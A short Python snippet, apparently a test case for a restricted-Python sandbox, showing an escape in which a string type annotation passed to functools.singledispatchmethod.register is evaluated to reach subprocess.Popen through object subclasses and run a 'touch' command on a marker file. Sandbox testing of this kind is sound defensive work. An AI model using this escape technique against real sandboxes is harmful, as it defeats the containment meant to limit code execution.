# escape: singledispatchmethod.register evaluates string annotations the same way
# effect: marker
import functools
class C:
    @functools.singledispatchmethod
    def go(self, x):
        return x
def f(self, x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', '{marker}']).wait()"):
    pass
try:
    C.go.register(f)
except Exception:
    pass
return "done"
